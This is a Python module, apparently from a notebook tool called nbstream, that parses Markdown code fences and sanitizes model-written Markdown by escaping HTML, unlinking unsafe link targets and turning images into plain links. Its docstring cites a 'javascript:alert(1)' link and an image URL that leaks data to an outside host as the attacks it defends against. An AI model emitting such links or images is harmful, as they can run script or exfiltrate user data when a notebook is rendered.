"""Markdown rules for model text, in one place: fences, code blocks, and defanging.

Where a code fence opens and closes decides what a saved answer looks like (its open
fence is closed so the status line stays outside it), which code ``--format code``
offers as a new cell, and which text :func:`defang` leaves alone. The live view in
JupyterLab decides the same in ``labextension/src/markdown.ts``. The rules are
CommonMark's: a fence is three or more backticks or tildes indented at most three
spaces; a backtick fence's info string holds no backtick; a closing fence uses the same
character, is at least as long, and has nothing but spaces or tabs after it — so a
fence followed by ``python`` never closes a block. Both implementations are run against
one table, ``labextension/src/__tests__/markdown_cases.json`` (``tests/test_markdown.py``
and ``markdown.spec.ts``), so a saved answer renders like the live one.

**Defanging.** Where nbstream's front end runs (JupyterLab, Notebook 7), answers and the
chat transcript are rendered from nbstream's own MIME types through a sanitizing path.
Everywhere else — GitHub, nbconvert, VS Code, a JupyterLab without the extension — the
``text/markdown`` copy is shown, and a reopened notebook is trusted: its Markdown may be
rendered without a sanitizer. A model's ``[x](javascript:alert(1))`` would then be a
live link and its ``![a](http://host/leak?data=…)`` fetched on every open. So this copy
is defanged:

- raw HTML is escaped (``<`` becomes ``&lt;``, ``&`` becomes ``&amp;``): shown as text;
- a link keeps its target only if it is ``http(s)`` or ``mailto`` (an inline link's
  ``(`` or a reference definition's ``[`` is escaped otherwise, so it reads as text);
- an image is written as a link to it (``🖼 [alt](url)``): nothing is fetched.

Code spans and fenced code blocks are left exactly as written: Markdown already shows
them literally. A small function rather than a Markdown library: nbstream depends on
none, and it only needs to find code, ``](``, ``![`` and definitions — constructs a
line-based scan finds; ``tests/test_safe_markdown.py`` checks the result with real
renderers (nbconvert's, markdown-it-py's), including adversarial inputs.
"""

from __future__ import annotations

import re

_FENCE = re.compile(r"^( {0,3})(`{3,}|~{3,})(.*)$")  # one line: indent, run, info
_SAFE_TARGET = re.compile(r"[ \t]*\n?[ \t]*<?(https?://|mailto:)", re.IGNORECASE)
# An unescaped `](` (an inline link's or image's target follows) …
_TARGET_OPEN = re.compile(r"(?<!\\)((?:\\\\)*)\]\(")
# … an unescaped `![` (an image) …
_IMAGE = re.compile(r"(?<!\\)((?:\\\\)*)!\[(\]?)")
# … and a link reference definition at the start of a line.
_SPECIAL = re.compile(r"[\\`]")  # what _defang_line looks at: an escape or a backtick
_RUN = re.compile(r"`+")
_DEFINITION = re.compile(r"^( {0,3})\[([^\]\n]+)\]:", re.MULTILINE)


_Opener = tuple[str, bool] | None
"""The fence state between lines: the open fence's run and whether its content is surely
code (the fence starts its line), or None outside a fenced block."""


def open_fence(markdown: str) -> str | None:
    """The fence (its run of backticks or tildes) still open at the end, or None."""
    opener: _Opener = None
    for line in markdown.split("\n"):
        opener = _next_opener(line, opener)
    return opener[0] if opener is not None else None


def close_open_fence(markdown: str) -> str:
    """Close a code fence left open (mid-stream, or an answer cut short)."""
    opener = open_fence(markdown)
    if opener is None:
        return markdown
    return markdown + ("" if markdown.endswith("\n") else "\n") + opener


def has_fence(text: str) -> bool:
    """Whether any line of ``text`` looks like a fence (``--format code`` then shows it
    as Markdown rather than wrapping it in a block of its own)."""
    return any(_FENCE.match(line) for line in text.split("\n"))


def literal_block(text: str, info: str = "") -> str:
    """``text`` as a fenced block whose fence cannot occur inside it."""
    longest = max((len(m) for m in re.findall(r"`+", text)), default=0)
    fence = "`" * max(3, longest + 1)
    return f"{fence}{info}\n{text}\n{fence}"


def code_blocks(text: str) -> list[str]:
    """The contents of the fenced code blocks that are closed, in order."""
    blocks: list[str] = []
    opener: str | None = None
    body: list[str] = []
    for line in text.split("\n"):
        fence = _FENCE.match(line)
        if opener is None:
            if fence is not None and _opens(fence):
                opener, body = fence.group(2), []
        elif fence is not None and _closes(fence, opener):
            blocks.append("\n".join(body).rstrip("\n"))
            opener = None
        else:
            body.append(line)
    return blocks


def code_of(text: str) -> str:
    """The code in an answer: its fenced blocks joined, or the whole text if it has none."""
    blocks = code_blocks(text)
    if blocks:
        return "\n\n".join(blocks)
    return text.strip()


def defang(markdown: str) -> str:
    """``markdown`` with raw HTML escaped, unsafe links unlinked and images as links.

    Only what is surely code to any CommonMark renderer is left alone: a fenced block
    whose opening fence starts the line (one indented 1–3 spaces may sit in a list item
    that ends before its closing fence), and code spans within one line. Anything else
    is treated as text: at worst an entity shows inside code, never a live link.
    """
    out: list[str] = []
    opener: _Opener = None
    for line in markdown.split("\n"):
        shown, opener = _defang_next(line, opener)
        out.append(shown)
    return "\n".join(out)


class SafeMarkdown:
    """``defang(close_open_fence(text))`` for one text that grows, as a live answer does.

    Both go line by line, and what a line becomes depends only on the fence state the
    lines before it leave: so the lines before the last newline are done once and kept
    (with that state), and each call does only the new lines. The whole answer was
    defanged again on every live update, ~20 a second: O(n²) over an answer, ~1 ms per
    update for 30 KB of Markdown (measured). A text that is not an extension of the last
    one is started afresh; the result is always exactly the one-shot functions'.
    """

    __slots__ = ("_done", "_opener", "_source")

    def __init__(self) -> None:
        self._source = ""  # the finished lines done so far (ends with a newline, or empty)
        self._done = ""  # what they became, each followed by a newline
        self._opener: _Opener = None  # the fence state after them

    def __call__(self, text: str) -> str:
        if not text.startswith(self._source):  # not the same text: start again
            self._source, self._done, self._opener = "", "", None
        cut = text.rfind("\n") + 1
        if cut > len(self._source):
            done, opener = [self._done], self._opener
            for line in text[len(self._source) : cut - 1].split("\n"):
                shown, opener = _defang_next(line, opener)
                done.append(shown + "\n")
            self._source, self._done, self._opener = text[:cut], "".join(done), opener
        tail = text[cut:]
        shown, opener = _defang_next(tail, self._opener)
        if opener is None:
            return self._done + shown
        # close_open_fence's closing line, defanged as defang() would do it.
        closing, _ = _defang_next(opener[0], opener)
        return self._done + shown + ("\n" if tail else "") + closing


def _next_opener(line: str, opener: _Opener) -> _Opener:
    """The fence state after ``line``."""
    fence = _FENCE.match(line)
    if fence is None:
        return opener
    if opener is None:
        return (fence.group(2), fence.group(1) == "") if _opens(fence) else None
    return None if _closes(fence, opener[0]) else opener


def _defang_next(line: str, opener: _Opener) -> tuple[str, _Opener]:
    """What ``line`` becomes after the fence state ``opener``, and the state after it."""
    after = _next_opener(line, opener)
    if opener is not None and after is not None and opener[1]:
        return line, after  # inside a block that is surely code: as written
    return _defang_line(line), after


def escape_html(text: str) -> str:
    """``&`` and ``<`` as entities: Markdown shows them, HTML never sees a tag."""
    # Tested first: a one-character ``in`` is a memchr, ~40× cheaper than a replace that
    # finds nothing (measured at 70 KB; the live bundle runs this ~20 times a second).
    if "&" in text:
        text = text.replace("&", "&amp;")
    return text.replace("<", "&lt;") if "<" in text else text


def _opens(fence: re.Match[str]) -> bool:
    # A backtick fence's info string cannot contain a backtick (then it is a code span).
    return not (fence.group(2)[0] == "`" and "`" in fence.group(3))


def _closes(fence: re.Match[str], opener: str) -> bool:
    run = fence.group(2)
    return run[0] == opener[0] and len(run) >= len(opener) and fence.group(3).strip(" \t") == ""


def _defang_line(line: str) -> str:
    """One line, its code spans kept as they are (CommonMark's rule: equal runs).

    It jumps from one backslash or backtick to the next with a regex rather than walking
    every character: this runs on every live update of a long answer (about 3.5 ms for
    30 KB walked in Python, a few percent of an in-kernel model's speed).
    """
    if "`" not in line and "\\" not in line:
        return _defang_text(line)  # no code span, no escape: two memchr scans, no regex
    pieces: list[str] = []
    text_start = 0
    i = 0
    search = _SPECIAL.search
    while (found := search(line, i)) is not None:
        i = found.start()
        if line[i] == "\\":
            i += 2
            continue
        end = _RUN.match(line, i).end()  # type: ignore[union-attr]  # a backtick is there
        close = _closing_run(line, end, end - i)
        if close is None:
            i = end
            continue
        pieces.append(_defang_text(line[text_start:i]))
        pieces.append(line[i:close])
        text_start = i = close
    pieces.append(_defang_text(line[text_start:]))
    return "".join(pieces)


def _closing_run(line: str, start: int, length: int) -> int | None:
    """Where the backtick run of exactly ``length`` after ``start`` ends, if any."""
    for run in _RUN.finditer(line, start):
        if run.end() - run.start() == length:
            return run.end()
    return None


def _defang_text(text: str) -> str:
    # Each pattern needs its literal (`![`, `](`, `]:`); a substring test is ~100× faster
    # than letting the regex try every position. Measured: 1.47 → 0.2 ms per update
    # for an 18 KB answer with none of them (the live bundle runs this ~20 times a second).
    # A one-character test goes first: it is a memchr, and ~100× cheaper again than a
    # two-character search (0.5 against 58 µs at 70 KB, measured).
    if "!" in text and "![" in text:
        text = _IMAGE.sub(
            lambda m: f"{m.group(1)}🖼 [{'image' if m.group(2) else ''}{m.group(2)}", text
        )
    if "]" in text:
        if "](" in text:
            text = _TARGET_OPEN.sub(_link_target, text)
        if "]:" in text:
            text = _DEFINITION.sub(_definition, text)
    return escape_html(text)


def _link_target(match: re.Match[str]) -> str:
    if _SAFE_TARGET.match(match.string, match.end()):
        return match.group(0)
    return f"{match.group(1)}]\\("


def _definition(match: re.Match[str]) -> str:
    if _SAFE_TARGET.match(match.string, match.end()):
        return match.group(0)
    return f"{match.group(1)}\\[{match.group(2)}]:"
